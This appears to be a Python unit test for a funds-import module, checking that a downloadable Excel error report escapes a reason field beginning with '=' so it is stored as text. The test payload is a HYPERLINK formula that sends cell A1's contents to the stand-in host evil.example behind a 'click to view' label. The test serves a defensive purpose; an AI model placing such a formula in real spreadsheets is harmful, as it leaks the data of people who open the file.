"""Funds files escape spreadsheet formulas as the household files do: a reason that begins with ``=`` is written as
text in the error report a county downloads."""
import io

from openpyxl import load_workbook

from funds.imports.excel import error_report

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def test_funds_files_escape_formulas_too():
    workbook = load_workbook(io.BytesIO(error_report([{"sheet": "报账", "row": 2, "column": "摘要", "reason": HYPERLINK}])))
    assert workbook.active["D2"].value == "'" + HYPERLINK and workbook.active["D2"].data_type == "s"
